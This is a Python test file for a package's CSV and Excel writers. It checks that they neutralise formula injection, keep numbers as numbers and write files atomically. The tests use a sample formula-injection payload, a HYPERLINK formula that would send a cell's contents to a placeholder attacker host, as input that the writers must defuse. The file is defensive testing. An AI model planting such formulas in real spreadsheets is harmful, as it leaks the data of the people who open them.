"""Writers: formulas neutralised, text cells strings, numbers numbers, files whole or absent."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from stocktake.answers import Answer
from stocktake.errors import AnswerError
from stocktake.io import Sheet, read_answers, write_answers, write_csv, write_frame, write_xlsx
from stocktake.io.cells import neutralised, restored
from stocktake.io.spreadsheets import XLSX_TEXT_LIMIT, all_or_nothing, csv_text

PAYLOAD = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+1 more", "'+1 more"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        ("-1e5", "-1e5"),
        ("plain", "plain"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_gets_a_quote_and_plain_numbers_do_not(
    text: str, written: str
) -> None:
    assert neutralised(text) == written


@given(st.text(st.sampled_from("'=+-@\t\rab1 .e")) | st.text())
def test_restoring_neutralised_text_gives_the_text_back(text: str) -> None:
    assert restored(neutralised(text)) == text


def _csv(target: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"), newline="")))


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"

    write_csv(path, ["=header", "n"], [[PAYLOAD, -3], ["-2+3", -0.5], [None, math.nan]])

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert _csv(path) == [
        ["'=header", "n"],
        ["'" + PAYLOAD, "-3"],
        ["'-2+3", "-0.5"],
        ["", ""],
    ]


def test_xlsx_text_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    rows = [
        [PAYLOAD, -3, "-3"],
        ["bell\x07 and nul\x00", math.nan, math.inf],
        ["x" * 40_000, 2.5, None],
    ]

    write_xlsx(path, [Sheet("answers", ["text", "number", "as text"], rows)])

    sheet = load_workbook(path)["answers"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert sheet["A2"].value == "'" + PAYLOAD and sheet["A2"].data_type == "s"
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3, "n")
    assert sheet["C2"].value == "-3"
    assert sheet["A3"].value == "bell and nul"
    assert (sheet["B3"].value, sheet["C3"].value) == (None, None)
    assert len(sheet["A4"].value) == XLSX_TEXT_LIMIT
    assert sheet.freeze_panes == "A2"


def test_a_write_that_fails_part_way_leaves_the_previous_file_and_no_partial_one(
    tmp_path: Path,
) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, ["a"], [["before"]])

    def rows() -> object:
        yield ["one"]
        raise RuntimeError("the disk is full")

    with pytest.raises(RuntimeError):
        write_csv(path, ["a"], rows())  # type: ignore[arg-type]

    assert _csv(path) == [["a"], ["before"]]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.csv"]


def test_a_failed_first_write_leaves_no_file(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"

    with pytest.raises(RuntimeError):
        write_xlsx(path, [Sheet("s", ["a"], _failing_rows())])

    assert list(tmp_path.iterdir()) == []


def _failing_rows() -> object:
    yield ["one"]
    raise RuntimeError("stop")


def test_writers_write_to_a_stream_and_leave_it_open() -> None:
    stream = io.BytesIO()

    write_answers([Answer(indicator="G1", value=2, evidence=PAYLOAD)], stream, kind="csv")

    assert not stream.closed
    text = stream.getvalue().decode("utf-8-sig")
    assert "'" + PAYLOAD.replace('"', '""') in text


def test_writing_answers_to_a_stream_needs_a_kind() -> None:
    with pytest.raises(AnswerError, match="say whether to write csv or xlsx"):
        write_answers([], io.BytesIO())


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_answers_with_formula_text_read_back_as_typed(tmp_path: Path, suffix: str) -> None:
    answers = [
        Answer(indicator="G1", value=-2, department="a", evidence=PAYLOAD, comment="-"),
        Answer(indicator="G2", value="'=x", department="a", comment="'-quoted"),
    ]
    path = tmp_path / f"answers{suffix}"

    write_answers(answers, path)

    assert read_answers(path) == answers


def test_answer_values_stored_as_text_are_written_as_numbers_in_a_workbook(
    tmp_path: Path,
) -> None:
    path = tmp_path / "answers.xlsx"

    write_answers([Answer(indicator="G1", value="3"), Answer(indicator="E3", value="-1.5")], path)

    sheet = load_workbook(path)["answers"]
    assert [sheet["B2"].value, sheet["B3"].value] == [3, -1.5]
    assert sheet["J2"].value == "no"


def test_a_frame_is_written_with_its_index_and_missing_values_empty(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"uName": ["=cmd", "Ankara"], "score": [1.5, math.nan]},
        index=pd.Index(["A", "B"], name="uCode"),
    )
    path = tmp_path / "f.csv"

    write_frame(frame, path)

    assert _csv(path) == [["uCode", "uName", "score"], ["A", "'=cmd", "1.5"], ["B", "Ankara", ""]]


def test_files_written_together_appear_only_when_all_are_written(tmp_path: Path) -> None:
    out = tmp_path / "out"

    with pytest.raises(RuntimeError), all_or_nothing(out) as staging:
        write_csv(staging / "first.csv", ["a"], [[1]])
        raise RuntimeError("the second table failed")

    assert list(tmp_path.iterdir()) == []

    with all_or_nothing(out) as staging:
        write_csv(staging / "first.csv", ["a"], [[1]])
        write_csv(staging / "second.csv", ["b"], [[2]])

    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    assert sorted(p.name for p in out.iterdir()) == ["first.csv", "second.csv"]


def test_csv_for_standard_output_has_plain_line_ends_and_no_byte_order_mark() -> None:
    assert csv_text(["title", "score"], [["=cmd", 1.5], ["Plan", None]]) == (
        "title,score\n'=cmd,1.5\nPlan,\n"
    )
